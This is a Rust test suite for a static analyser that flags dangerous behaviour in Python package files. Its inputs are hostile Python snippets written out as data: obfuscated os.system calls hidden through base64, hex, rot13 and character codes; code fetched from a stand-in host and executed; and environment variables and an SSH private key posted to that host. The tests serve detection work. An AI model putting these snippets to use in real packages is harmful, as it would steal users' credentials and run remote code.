use super::view;
use crate::behaviour::{Ability, Sources};
use crate::lang::{Fidelity, View};

fn read(code: &str) -> View {
    view("demo-1.0/demo/__init__.py", code.as_bytes())
}

/// The effects of the whole file, in order.
fn effects(code: &str) -> Vec<(Ability, Sources, Option<String>)> {
    read(code).units.into_iter().flat_map(|unit| unit.effects).map(|e| (e.ability, e.from, e.detail)).collect()
}

fn has(code: &str, ability: Ability, from: Sources) {
    let all = effects(code);
    assert!(all.iter().any(|(a, f, _)| *a == ability && f.all(from)), "{code}\n{all:#?}");
}

#[test]
fn names_are_resolved_through_every_disguise() {
    for code in [
        "import os\nos.system('id')",
        "import os as _o\n_o.system('id')",
        "from os import system as _ssystem\n_ssystem('id')",
        "import os\nf = os.system\ng = f\ng('id')",
        "__import__('os').system('id')",
        "import importlib\nimportlib.import_module('os').system('id')",
        "import os\ngetattr(os, 'sys' + 'tem')('id')",
        "__builtins__.__import__('os').system('id')",
        "globals()['__builtins__'].__import__('os').system('id')",
        "from os import *\nsystem('id')",
        "import os\nclass A:\n  def run(self):\n    os.system('id')\nA().run()",
        "import os\n(lambda: os.system('id'))()",
        "import os\n[os.system(c) for c in ['id']]",
        "import os\ntry:\n  x\nexcept Exception:\n  os.system('id')",
        "import os\nif True:\n  pass\nelif x:\n  pass\nelse:\n  os.system('id')",
        "import os\nmatch x:\n  case 1:\n    os.system('id')",
        "eval(\"__import__('os').system('id')\")",
        "exec('import os\\nos.system(\"id\")')",
        "import os\nprint 'x'\nos.system('id')",
        "import os\nx = = 1\nos.system('id')",
        "import os\ndef f(:\n  os.system('id')",
        "import os, threading\ndef f():\n  os.system('id')\nthreading.Thread(target=f).start()",
    ] {
        has(code, Ability::Spawn, Sources::NONE);
    }
}

#[test]
fn decoded_code_is_read_again() {
    for code in [
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
        "from base64 import b64decode as d\nx = d(b'aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==').decode()\nexec(compile(x, 'a', 'exec'))",
        "exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d282769642729'))",
        "import codecs\nexec(codecs.decode('vzcbeg bf;bf.flfgrz(\"vq\")', 'rot13'))",
    ] {
        has(code, Ability::Spawn, Sources::NONE);
        has(code, Ability::Execute, Sources::DECODED);
    }
    for code in [
        "exec(''.join(chr(c) for c in [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41]))",
        "exec(''.join(map(chr, [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41])))",
        "exec(\")'di'(metsys.so;so tropmi\"[::-1])",
        "s=''\nfor c in [104,108,111,113,115,31,110,114,58,110,114,45,114,120,114,115,100,108,39,38,104,99,38,40]:\n  s += chr(c+1)\nexec(s)",
    ] {
        has(code, Ability::Spawn, Sources::NONE);
        has(code, Ability::Execute, Sources::BUILT);
    }
}

#[test]
fn values_are_followed_to_where_they_end() {
    has("import requests\nexec(requests.get('https://x.test/a').text)", Ability::Execute, Sources::NETWORK);
    has(
        "import os, requests\nrequests.post('https://x.test', json=dict(os.environ))",
        Ability::Network,
        Sources::ENVIRONMENT,
    );
    has(
        "import os, json, urllib.request\nd = json.dumps({**os.environ}).encode()\nr = urllib.request.Request('https://x.test', data=d)\nurllib.request.urlopen(r)",
        Ability::Network,
        Sources::ENVIRONMENT,
    );
    has(
        "import requests, subprocess\nr = requests.get('https://x.test/a.exe')\nopen('/tmp/a.exe', 'wb').write(r.content)\nsubprocess.Popen(['/tmp/a.exe'])",
        Ability::Spawn,
        Sources::WRITTEN,
    );
    has(
        "import os, requests\ndef send(x):\n  requests.post('https://x.test', data=x)\nsend(open(os.path.expanduser('~/.ssh/id_rsa')).read())",
        Ability::Network,
        Sources::CREDENTIAL,
    );
    has(
        "import socket, platform, requests\nrequests.get('https://x.test/?h=' + socket.gethostname())",
        Ability::Network,
        Sources::SYSTEM,
    );
    has("exec(open('demo/version.py').read())", Ability::Execute, Sources::OWN_FILE);
}

#[test]
fn hosts_paths_and_calls_are_in_the_view() {
    let view = read("from .core import run as r\nimport requests\nr()\nrequests.get('https://api.example/x')\n");
    assert_eq!(view.literals.hosts, [("api.example".to_owned(), 4)]);
    assert!(view.imports.iter().any(|import| import.module == "demo.core"));
    assert!(view.units[0].calls.contains(&crate::lang::Callee::Other("demo.core".to_owned(), "run".to_owned())));
    assert_eq!(view.fidelity, Fidelity::Parsed);
}

#[test]
fn nesting_and_length_exhaust_nothing() {
    let n = 100_000;
    for code in [
        format!("x={}{}", "(".repeat(n), ")".repeat(n)),
        format!("x={}1", "not ".repeat(n)),
        format!("x={}1", "-".repeat(n)),
        format!("x={}", vec!["chr(1)"; n].join("+")),
        format!("x={}1", "lambda:".repeat(n)),
        format!("x={}", "f\"{".repeat(n)),
        format!("x=a{}", ".b()".repeat(n)),
        format!("x={}1{}", "[".repeat(n), "]".repeat(n)),
        format!("x={}", "1 if x else ".repeat(n)),
        format!("x={}", "a**".repeat(n)),
        format!("if x:\n  y\n{}", "elif x:\n  y\n".repeat(n)),
        (0..2_000).map(|depth| format!("{}if x:\n", " ".repeat(depth))).collect(),
        "@".repeat(n),
        "(".repeat(n),
        "'".repeat(n),
    ] {
        let view = read(&format!("{code}\nimport os\nos.system('id')\n"));
        assert!(!view.units.is_empty());
    }
}
